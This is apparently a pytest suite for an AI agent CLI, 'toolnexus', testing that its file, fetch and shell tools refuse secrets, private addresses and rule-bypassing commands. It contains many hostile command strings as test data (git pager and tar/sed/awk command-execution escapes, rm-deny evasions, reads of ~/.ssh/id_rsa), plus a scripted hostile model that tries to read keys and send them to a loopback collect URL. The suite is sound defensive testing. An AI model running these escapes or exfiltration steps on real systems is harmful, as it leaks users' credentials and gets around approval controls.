"""What a tool may touch (issue 11): one test per promise, in the order the issue lists them,
then a hostile model trying them all end to end.

The CLI cases run the real `toolnexus` command in a pipe (no terminal: what asks is
declined unless a rule or --yes allows it) or in a pseudo-terminal, against the loopback
stub endpoint, which scripts the tool calls a model would make. Every user has a fake HOME
under tmp_path, so `~/.ssh` and the keys file are the test's own.
"""

from __future__ import annotations

import json
import os
import re
import threading
import tomllib
from pathlib import Path

import pytest

import toolnexus.tools.builtins as builtins_module
from tests.support.cli_helpers import CLI, model_calls, tool_results, write_files
from tests.support.mcp_helpers import STDIO_SERVER, server_command
from tests.support.pty_screen import PtySession
from tests.support.stub_provider import Recorded, Reply, StubProvider, openai_stream
from toolnexus import ToolContext, create_toolkit
from toolnexus.tools.approval import ApprovalPolicy
from toolnexus.tools.tool import Tool
from toolnexus.tools.workspace import Workspace, is_public

ROOT = Path(__file__).parents[2]
ASKED = "needs you|nobody can answer here"


def declined_lines(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if "declined a tool's approval" in line]


@pytest.fixture
def work(cli: CLI) -> Path:
    """A workspace folder beside (not inside) the fake HOME."""
    folder = cli.root / "work"
    folder.mkdir()
    return folder


async def approve(toolkit, name: str, args: dict) -> str:
    """Run a tool that asks first, answering yes (what a terminal's `y` does)."""
    context = ToolContext(call_id="call_1")
    asked = await toolkit.execute(name, args, context)
    request = asked.metadata["pending"]
    context.answer = {"id": request["id"], "ok": True}
    return (await toolkit.execute(name, args, context)).output


# ======================================================== 1. the workspace, and leaving it


def test_file_tools_act_inside_the_workspace_and_ask_before_leaving_it(cli, stub, work):
    write_files(work, {"inside.txt": "inside-content\n"})
    write_files(cli.home, {".bashrc": "bashrc-content\n"})
    write_files(cli.root / "elsewhere", {"outside.txt": "outside-content\n"})
    (work / "notes.txt").symlink_to(cli.home / ".bashrc")
    reads = [
        ("read_file", {"path": p})
        for p in (
            "inside.txt",
            "notes.txt",
            "../elsewhere/outside.txt",
            "~/.bashrc",
            "sub/../../elsewhere/outside.txt",
        )
    ]
    model_calls(stub, reads, "ok")

    piped = cli.call("ask", "--builtins", "--root", str(work), "read them")

    assert piped.code == 0, piped
    results = tool_results(stub.requests[1])
    assert results[0].endswith("inside-content")  # relative to the root, at once
    assert all(r.startswith("Error: declined: read ") for r in results[1:]), results
    assert "bashrc-content" not in str(stub.requests[1].json)
    # what is asked names the resolved path: the symlink says where it leads
    assert f"read notes.txt (which is {cli.home / '.bashrc'}), outside the workspace" in (
        piped.stderr
    )
    assert len(declined_lines(piped.stderr)) == 4
    # a command in the sandbox could not read them either: --yes does not answer
    assert all("--yes does not answer this" in line for line in declined_lines(piped.stderr))
    model_calls(stub, reads[1:2], "ok")
    cli.call("ask", "--builtins", "--yes", "--root", str(work), "x")
    assert tool_results(stub.requests[-1])[0].endswith("(not approved: nobody to ask)")

    # a path rule allows without a question
    cli.write_config(
        f'workspace = "{work}"\n\n[approval.paths]\n"{cli.root}/elsewhere/*" = "allow"\n'
    )
    model_calls(
        stub,
        [
            ("read_file", {"path": "../elsewhere/outside.txt"}),
            ("read_file", {"path": "inside.txt"}),
        ],
        "ok",
    )
    ruled = cli.call("ask", "--builtins", "x")  # the config's workspace, not the cwd
    assert ruled.code == 0 and not declined_lines(ruled.stderr), ruled
    assert [r.splitlines()[0] for r in tool_results(stub.requests[-1])] == [
        "     1\toutside-content",
        "     1\tinside-content",
    ]


def test_the_approval_panel_shows_the_resolved_path(cli, stub, work):
    write_files(cli.home, {".bashrc": "bashrc-content\n"})
    (work / "notes.txt").symlink_to(cli.home / ".bashrc")
    model_calls(stub, [("read_file", {"path": "notes.txt"})], "Not read.")
    chat = PtySession(cli, "chat", "--builtins", "--root", str(work), rows=40, cols=200)
    try:
        chat.expect("›")
        chat.send_line("read my notes")
        chat.expect(re.escape(f"notes.txt (which is {cli.home / '.bashrc'})"))
        chat.expect(re.escape("[y]es / [n]o"))
        chat.child.send("n")
        chat.expect("Not read.")
    finally:
        chat.close()
    assert tool_results(stub.requests[1])[0].startswith("Error: declined: read notes.txt")


# ================================================================== 2. secrets stay shut

SECRETS = {
    ".ssh/id_rsa": "SSH-KEY-0001",
    ".aws/credentials": "AWS-KEY-0002",
    ".config/gcloud/credentials.db": "GCLOUD-0003",
    ".netrc": "NETRC-0004",
}


def test_secrets_are_never_readable_without_an_explicit_path_rule_even_with_yes(cli, stub, work):
    write_files(cli.home, SECRETS)
    write_files(
        work,
        {
            "server.pem": "PEM-0005",
            "deploy/id_ed25519": "ED-0006",
            ".env": "INSIDE-ENV-0010",
            "notes.txt": "KEYS- is a word here",
        },
    )
    write_files(cli.root / "other", {".env": "ENV-0007"})
    cli.keys_file.parent.mkdir(parents=True, exist_ok=True)
    cli.keys_file.write_text('{"openai": "KEYS-0008"}')
    (work / "innocent.txt").symlink_to(cli.keys_file)
    refused = [f"~/{name}" for name in SECRETS] + [
        "../other/.env",
        str(cli.keys_file),
        str(cli.config_dir / "keys.json"),
        "innocent.txt",
        "/proc/self/environ",
        "/proc/thread-self/environ",
    ]
    asking = ["server.pem", "deploy/id_ed25519", ".env"]  # the project's, but they look secret
    calls = [("read_file", {"path": p}) for p in refused + asking] + [
        ("grep", {"pattern": "-000", "path": str(cli.home)}),
        ("grep", {"pattern": "KEYS-|-000", "path": "."}),
        ("glob", {"pattern": "**/*", "path": str(cli.home)}),
        ("list_dir", {"path": "~/.ssh"}),
        ("write_file", {"path": "~/.ssh/authorized_keys", "content": "attacker"}),
    ]
    model_calls(stub, calls, "ok")
    cli.write_config('[approval.paths]\n"~" = "allow"\n')  # its secrets stay shut all the same

    result = cli.call(
        "ask",
        "--builtins",
        "--yes",
        "--root",
        str(work),
        "x",
        env={"TOOLNEXUS_SECRET_PROBE": "ENV-VALUE-0009"},
    )

    assert result.code == 0, result
    results = tool_results(stub.requests[1])
    sent = str(stub.requests[1].json)
    for marker in [
        "SSH-KEY",
        "AWS-KEY",
        "GCLOUD",
        "NETRC",
        "PEM-",
        "ED-0006",
        "ENV-0007",
        "KEYS-0008",
        "ENV-VALUE-0009",
        "INSIDE-ENV",
    ]:
        assert marker not in sent, marker
    assert all("holds secrets" in r for r in results[: len(refused)]), results
    asked = results[len(refused) : len(refused) + len(asking)]
    assert all(
        r.startswith("Error: declined: read ")
        and "says it holds secrets; --yes does not answer this (not approved: nobody to ask)" in r
        for r in asked
    ), asked
    searches = results[len(refused) + len(asking) :]
    assert searches[0] == "no matches"
    assert searches[1].endswith("notes.txt:1: KEYS- is a word here")  # .env etc. not searched
    assert ".ssh" not in searches[2] and ".aws" not in searches[2]
    assert all("holds secrets" in r for r in searches[-2:])
    assert not (cli.home / ".ssh" / "authorized_keys").exists()

    # only a rule without wildcards that names the secret opens it
    cli.write_config('[approval.paths]\n"~/**" = "allow"\n"~/.aws/credentials" = "allow"\n')
    model_calls(
        stub,
        [("read_file", {"path": "~/.aws/credentials"}), ("read_file", {"path": "~/.ssh/id_rsa"})],
        "ok",
    )
    cli.call("ask", "--builtins", "--yes", "--root", str(work), "x")
    opened, shut = tool_results(stub.requests[-1])
    assert opened.endswith("AWS-KEY-0002") and "holds secrets" in shut


# ===================================================== 3. special files, caps on reading


async def test_special_files_are_refused_and_reads_and_searches_are_capped(tmp_path, monkeypatch):
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "zero").symlink_to("/dev/zero")
    (tmp_path / "big.txt").write_text("".join("x" * 300 + f" {i}\n" for i in range(10_000)))
    for i in range(300):
        (tmp_path / f"m{i:03d}.txt").write_text("needle\n")
    toolkit = await create_toolkit(builtins=True, workspace=tmp_path, max_output=10**7)

    for special in ("pipe", "zero", "/dev/zero"):
        refused = await toolkit.execute("read_file", {"path": special})
        assert refused.is_error and "special file" in refused.output, special

    big = (await toolkit.execute("read_file", {"path": "big.txt"})).output
    assert len(big.encode()) < 256 * 1024 + 1000
    assert big.endswith(
        f"[truncated: read_file shows at most 256 KiB of text at a time; "
        f"go on with offset={big.count(chr(10)) + 1}]"
    )
    assert (
        await toolkit.execute("read_file", {"path": "big.txt", "offset": 10_000})
    ).output.endswith("x 9999")

    grep = (await toolkit.execute("grep", {"pattern": "needle"})).output
    assert grep.count("needle") == builtins_module.MAX_MATCHES
    assert grep.endswith(f"... stopped at {builtins_module.MAX_MATCHES} matches")
    monkeypatch.setattr(builtins_module, "SEARCH_SECONDS", 0.0)  # a tree that takes forever
    for tool, args in (("grep", {"pattern": "needle"}), ("glob", {"pattern": "**/*"})):
        assert "... stopped after 0 s" in (await toolkit.execute(tool, args)).output


# ======================================================================= 4. fetch_url


def test_an_address_that_is_not_public_counts_as_private_in_ipv4_and_ipv6():
    for address in (
        "127.0.0.1",
        "10.1.2.3",
        "192.168.0.1",
        "172.16.5.5",
        "169.254.169.254",
        "100.100.100.200",
        "0.0.0.0",
        "::1",
        "fe80::1",
        "fd00:ec2::254",
        "::",
        "::ffff:127.0.0.1",
        "64:ff9b::a9fe:a9fe",
        "2002:7f00:1::1",
    ):
        assert not is_public(address), address
    for address in ("93.184.216.34", "8.8.8.8", "2606:4700:4700::1111"):
        assert is_public(address), address


async def test_fetch_url_asks_before_a_private_address_also_after_a_redirect(tmp_path):
    with StubProvider() as first, StubProvider() as second:
        first.handler = lambda rec: Reply.raw(
            [b"moved"], status=302, chunked=False, headers={"Location": second.url + "/x"}
        )
        second.handler = lambda rec: Reply.raw(
            [b"second page"], chunked=False, headers={"Content-Type": "text/plain"}
        )
        asking = await create_toolkit(builtins=["fetch_url"], workspace=Workspace(tmp_path))
        for url in ("file:///etc/passwd", "ftp://example.com/x", "gopher://x"):
            result = await asking.execute("fetch_url", {"url": url})
            assert result.is_error and "only http:// and https://" in result.output

        pending = await asking.execute("fetch_url", {"url": second.url + "/x"})
        prompt = pending.metadata["pending"]["prompt"]
        assert prompt.startswith(f"fetch http://127.0.0.1:{second.port}?") and (
            "not a public address" in prompt
        )
        assert second.requests == []  # asked before any connection
        assert "second page" in await approve(asking, "fetch_url", {"url": second.url + "/x"})

        # a host rule lets the first through; the redirect to another one still asks
        ruled = await create_toolkit(
            builtins=["fetch_url"],
            workspace=Workspace(tmp_path, hosts={f"127.0.0.1:{first.port}": "allow"}),
        )
        hop = await ruled.execute("fetch_url", {"url": first.url + "/start"})
        assert f"fetch http://127.0.0.1:{second.port}?" in hop.metadata["pending"]["prompt"]
        assert len(first.requests) == 1 and len(second.requests) == 1  # only the approved one
        denied = await create_toolkit(
            builtins=["fetch_url"], workspace=Workspace(tmp_path, hosts={"127.0.0.1:*": "deny"})
        )
        refused = await denied.execute("fetch_url", {"url": second.url})
        assert refused.is_error and "127.0.0.1 is denied by a host rule" in refused.output


async def test_fetch_url_caps_the_body_and_refuses_a_binary_type(stub, tmp_path):
    stub.handler = None  # the scripted replies below, in order
    stub.script(
        Reply.raw(
            [b"a" * (3 * 1024 * 1024)], chunked=False, headers={"Content-Type": "text/plain"}
        ),
        Reply.raw(
            [b"\x89PNG\r\n\x1a\n" + b"\0" * 100],
            chunked=False,
            headers={"Content-Type": "image/png"},
        ),
    )
    toolkit = await create_toolkit(
        builtins=["fetch_url"],
        max_output=10**7,
        workspace=Workspace(tmp_path, hosts={"127.0.0.1:*": "allow"}),
    )
    big = await toolkit.execute("fetch_url", {"url": stub.url + "/big"})
    assert big.output.endswith("[truncated: fetch_url reads at most 1024 KiB of a body]")
    assert big.output.count("a") < 1024 * 1024 + 100
    png = await toolkit.execute("fetch_url", {"url": stub.url + "/logo.png"})
    assert png.is_error and "is image/png, not text" in png.output and "PNG" not in png.output


async def test_fetch_url_connects_to_the_address_it_checked(stub, tmp_path):
    """The name goes in the Host header; the connection goes to the address judged, so a
    second DNS answer cannot point it elsewhere."""
    stub.handler = None
    stub.script(Reply.raw([b"hi"], chunked=False, headers={"Content-Type": "text/plain"}))
    toolkit = await create_toolkit(
        builtins=["fetch_url"], workspace=Workspace(tmp_path, hosts={"127.0.0.1:*": "allow"})
    )
    await toolkit.execute("fetch_url", {"url": f"http://u:pw@127.0.0.1:{stub.port}/p"})
    assert stub.requests[0].headers["host"] == f"127.0.0.1:{stub.port}"  # no password


# ==================================================================== 5. command rules


def test_command_rules_match_the_parsed_command_and_deny_wins_however_spelled():
    bash = Tool("bash", "", {}, lambda: None, source="builtin")
    policy = ApprovalPolicy(
        commands={
            "git status*": "allow",
            "ls *": "allow",
            "find *": "allow",
            "sed *": "allow",
            "awk *": "allow",
            "sort *": "allow",
            "rm *": "deny",
        }
    )

    def decide(command: str) -> str:
        return policy.decide(bash, "bash", {"command": command})

    assert decide("git status") == decide("git status --short") == "allow"
    assert decide("ls -la src") == "allow" and decide("find . -name '*.py'") == "allow"
    for asks in (
        "git status-x",
        "git -c core.fsmonitor='touch /tmp/x' status",
        "/usr/bin/git status",
        "GIT_DIR=/x git status",
        "git statusx",
        "find . -exec sh -c id ;",
        "find . -execdir id {} +",
        "find . -delete",
        "find . -fprint /tmp/x",
        "sed -i s/a/b/ f",
        "sed --in-place s/a/b/ f",
        "sed 's/a/b/w /tmp/out' f",
        "sed '1e id' f",
        "awk 'BEGIN{system(\"id\")}'",
        "sort -o /etc/x f",
        "ls --output=x",
        "git status 'unbalanced",
        "git status $(id)",
        'git status "$(id)"',
        "git status `id`",
    ):
        assert decide(asks) == "ask", asks
    for spelled in (
        "rm -rf x",
        "\\rm -rf x",
        "/bin/rm x",
        "command rm x",
        "env rm x",
        "env -i rm x",
        "env -i FOO=1 rm x",
        "xargs rm",
        "xargs -0 -n1 rm",
        "sudo rm x",
        "sudo -u root rm x",
        "nice rm x",
        "nice -n 5 rm x",
        "timeout 5 rm x",
        "timeout -s KILL 5 rm x",
        "bash -c 'rm -rf x'",
        "sh -lc 'echo; rm x'",
        "eval rm x",
        "env -S 'rm x'",
        "echo $(rm x)",
        "git status; rm x",
        "ls | xargs rm",
        "(rm x)",
        "FOO=1 rm x",
        "nohup /usr/bin/rm x",
    ):
        assert decide(spelled) == "deny", spelled
    everything = ApprovalPolicy({"bash": "allow"}, {"rm *": "deny"})
    assert everything.decide(bash, "bash", {"command": "sudo rm -rf /"}) == "deny"


BASH = Tool("bash", "", {}, lambda: None, source="builtin")
# An allow rule for each vetted program, and for programs that run others: each covers only
# the forms known to read only.
VETTED_RULES = {
    "sed *": "allow",
    "tar *": "allow",
    "git *": "allow",
    "git diff*": "allow",
    "find *": "allow",
    "awk *": "allow",
    "xargs *": "allow",
    "env*": "allow",
    "printenv*": "allow",
    "less *": "allow",
    "vim *": "allow",
    "sudo *": "allow",
    "sort *": "allow",
    "rg *": "allow",
    "fd *": "allow",
}


def vetted(command: str) -> str:
    return ApprovalPolicy(commands=VETTED_RULES).decide(BASH, "bash", {"command": command})


@pytest.mark.parametrize(
    "command",
    [
        "sed 's/x/y/ge' f",
        "sed 's/a/b/gw /tmp/out' f",
        "sed -n '/x/Ie id' f",
        "tar --rsh-command=/x -tf a.tar",
        "tar --info-script=x -tf a.tar",
        "tar --new-volume-script=x -tf a.tar",
        "tar -tf host:file",
        "tar tvf host:file",
        "tar -xf a.tar",
        "git diff --no-index ~/.ssh/id_rsa /dev/null",
        "git diff /dev/null ~/.ssh/id_rsa",
        "git diff ../../.ssh/id_rsa README.md",
        "git diff --textconv",
        "git grep --no-index secret /",
        "git lg",
        "git branch new",
        "awk 'BEGIN{print ENVIRON[\"KEY\"]}'",
        "xargs grep x",
        "env",
        "printenv",
        "less f",
        "vim f",
        "sudo ls",
    ],
)
def test_an_allow_rule_covers_no_escape_from_a_read_only_program(command):
    """The escapes an audit found past the deny-list of options that came before."""
    assert vetted(command) == "ask"


@pytest.mark.parametrize(
    "command",
    [
        "sed 's/a/b/e' f",
        "sed 'e id' f",
        "sed '1e id' f",
        "sed 'w /tmp/out' f",
        "sed -i s/a/b/ f",
        "tar --to-command=sh -xf a.tar",
        "tar --checkpoint-action=exec=id -tf a",
        "git -c core.pager=id log",
        "git -C / status",
        "git diff --output=/tmp/x",
        "git diff --ext-diff",
        "git grep -O id x",
        "find . -exec id \\;",
        "find . -delete",
        "find . -fprint /tmp/x",
        "awk 'BEGIN{system(\"id\")}'",
        "sort -o /tmp/x f",
        "rg --pre id x",
        "fd -x id",
    ],
)
def test_an_allow_rule_still_refuses_what_the_option_deny_list_refused(command):
    assert vetted(command) == "ask"


@pytest.mark.parametrize(
    "command",
    [
        "git log --oneline -5",
        "git diff HEAD~1 -- src/x.py",
        "git status --short",
        "sed -n '1,20p' f",
        "sed 's/a/b/g' f",
        "tar -tzf x.tgz",
        "tar -xOf x.tar member",
        "find . -name '*.py' -type f",
        "awk '{print $1}' f",
        "sort -u f",
        "rg -n needle src",
    ],
)
def test_an_allow_rule_still_covers_the_ordinary_read_only_forms(command):
    assert vetted(command) == "allow"


# A rule the example config shows commented out: `# "git status*" = "allow"`.
COMMENTED_RULE = re.compile(r'^# ("[^"\n]*"|[\w*?-]+) = ("(?:allow|ask|deny)")', re.M)


def example_rules() -> dict:
    """The example config's approval tables with the rules it shows as commented
    examples taken as written: a user who removes the "# " gets exactly these."""
    text = (ROOT / "toolnexus_cli" / "config" / "config.example.toml").read_text()
    return tomllib.loads(COMMENTED_RULE.sub(r"\1 = \2", text))["approval"]


# What a model may add to a shipped rule's words to read arbitrary paths or run a program.
ESCAPES_AFTER_RULE = [
    "--no-index ~/.ssh/id_rsa /dev/null",
    "/dev/null ~/.ssh/id_rsa",
    "-- ~/.ssh/id_rsa",
    "../../.ssh/id_rsa README.md",
    "$HOME/.ssh/id_rsa README.md",
    "--output=/tmp/x",
    "--ext-diff",
    "--textconv",
    "-O/tmp/order",
    "--open-files-in-pager=id",
    "--contents ~/.ssh/id_rsa",
]
ESCAPES_AFTER_PROGRAM = ["-c core.pager=id", "-C /", "--git-dir=/x", "-p", "--exec-path=/x"]


def test_no_shipped_example_allow_rule_reads_arbitrary_paths_or_runs_a_program():
    block = re.search(r"```toml\n(\[approval\].*?)```", (ROOT / "README.md").read_text(), re.S)
    assert block, "README shows the approval rules"
    rules = {**example_rules()["commands"], **tomllib.loads(block.group(1))["approval"]["commands"]}
    allowed = [pattern for pattern, decision in rules.items() if decision == "allow"]
    assert allowed, rules
    policy = ApprovalPolicy(commands=rules)
    for pattern in allowed:
        words = pattern.rstrip("*").split()
        for command in ([*words, escape] for escape in ESCAPES_AFTER_RULE):
            assert policy.decide(BASH, "bash", {"command": " ".join(command)}) == "ask", command
        for command in ([words[0], escape, *words[1:]] for escape in ESCAPES_AFTER_PROGRAM):
            assert policy.decide(BASH, "bash", {"command": " ".join(command)}) == "ask", command


def test_a_deny_rule_wins_over_yes(cli, stub):
    cli.in_project()
    cli.write_config('builtins = true\n\n[approval.commands]\n"rm *" = "deny"\n')
    victim = cli.home / "victim.txt"
    victim.write_text("keep me")
    model_calls(
        stub,
        [
            ("bash", {"command": f"sudo -n rm {victim}"}),
            ("bash", {"command": f"env -i /bin/rm {victim}"}),
        ],
        "ok",
    )
    result = cli.call("ask", "--yes", "x")
    rule = 'Error: denied by the rule "rm *" = "deny" in [approval.commands]'
    assert tool_results(stub.requests[1]) == [
        f"{rule}: sudo -n rm {victim}",
        f"{rule}: env -i /bin/rm {victim}",
    ], result
    assert victim.exists()


# ================================================================= 6. rules for MCP tools


def test_the_documented_mcp_rule_matches_the_name_the_user_sees(cli, tmp_path):
    readme = (ROOT / "README.md").read_text()
    block = re.search(r"```toml\n(\[approval\].*?)```", readme, re.S)
    assert block, "README shows the approval rules"
    mcp = tmp_path / "mcp.json"
    server = server_command(STDIO_SERVER)
    mcp.write_text(json.dumps({"mcpServers": {"github": server}}))
    for rules in (example_rules(), tomllib.loads(block.group(1))["approval"]):
        mcp_rules = {k: v for k, v in rules.items() if k.startswith("github")}
        assert mcp_rules, rules
        lines = "".join(f'"{k}" = "{v}"\n' for k, v in mcp_rules.items())
        cli.write_config(f"[approval]\n{lines}")
        rows = cli.call("tools", "--json", "--mcp", str(mcp)).json
        seen = {row["name"]: row["approval"] for row in rows}
        assert "github_add" in seen, rows
        assert seen["github_add"] == next(iter(mcp_rules.values())) != "ask"


# ======================================================= 7. only a key pressed after asking


def test_keys_typed_ahead_do_not_answer_an_approval(cli, stub, tmp_path):
    cli.in_project()
    marker = tmp_path / "approved-unseen"
    typed = threading.Event()

    def handler(request: Recorded) -> Reply:
        if len(stub.requests) == 1:
            typed.wait(10)  # the model is still working while the keys are typed
            return openai_stream(tool_calls=[("bash", {"command": f"touch {marker}"})])
        return openai_stream("Understood.")

    stub.handler = handler
    chat = PtySession(cli, "chat", "--builtins", rows=40, cols=120)
    try:
        chat.expect("›")
        chat.send_line("make the file")
        assert stub.wait_for_requests(1, timeout=10)
        chat.child.send("y\r")  # typed ahead: before any question was on the screen
        typed.set()
        chat.expect(re.escape("[y]es / [n]o / [a]lways (this session):"))
        chat.child.send("n")  # one key, no Enter
        chat.expect("Understood.")
    finally:
        chat.close()
    assert tool_results(stub.requests[1]) == ["Error: denied by the user"]
    assert not marker.exists()


# ======================================================= a hostile model, end to end


def test_a_hostile_model_in_a_pipe_gets_no_secret_out(cli, stub, work):
    write_files(cli.home, {".ssh/id_rsa": "-----BEGIN OPENSSH PRIVATE KEY----- HOSTILE-1"})
    cli.keys_file.parent.mkdir(parents=True, exist_ok=True)
    cli.keys_file.write_text('{"openai": "sk-HOSTILE-2"}')
    write_files(cli.home, {".bashrc": "export TOKEN=HOSTILE-3"})
    (work / "README.md").symlink_to(cli.home / ".bashrc")
    attempts = [
        ("read_file", {"path": str(cli.keys_file)}),
        ("read_file", {"path": "~/.ssh/id_rsa"}),
        ("read_file", {"path": "README.md"}),
        ("read_file", {"path": "/proc/self/environ"}),
    ]

    def hostile(request: Recorded) -> Reply:
        n = len(stub.requests)
        if n == 1:
            return openai_stream(tool_calls=attempts)
        if n == 2:  # whatever it got, it tries to send it to a loopback address
            leaked = str(request.json["messages"])
            return openai_stream(
                tool_calls=[("fetch_url", {"url": f"{stub.url}/collect?data={leaked[-200:]}"})]
            )
        return openai_stream("Done.")

    stub.handler = hostile
    result = cli.call(
        "ask",
        "--builtins",
        "--root",
        str(work),
        "summarise the project",
        env={"HOSTILE_ENV": "HOSTILE-4"},
    )

    assert result.code == 0 and result.stdout == "Done.\n", result
    first = tool_results(stub.requests[1])
    second = tool_results(stub.requests[2])[len(first) :]
    assert all("holds secrets" in r for r in (first[0], first[1], first[3])), first
    assert first[2].startswith("Error: declined: read README.md (which is "), first
    assert second[0].startswith(f"Error: declined: fetch http://127.0.0.1:{stub.port}?"), second
    assert not any(r.path.startswith("/collect") for r in stub.requests)
    everything_sent = "".join(r.body.decode() for r in stub.requests)
    for secret in ("HOSTILE-1", "HOSTILE-2", "HOSTILE-3", "HOSTILE-4"):
        assert secret not in everything_sent, secret
    assert len(declined_lines(result.stderr)) == 2, result.stderr
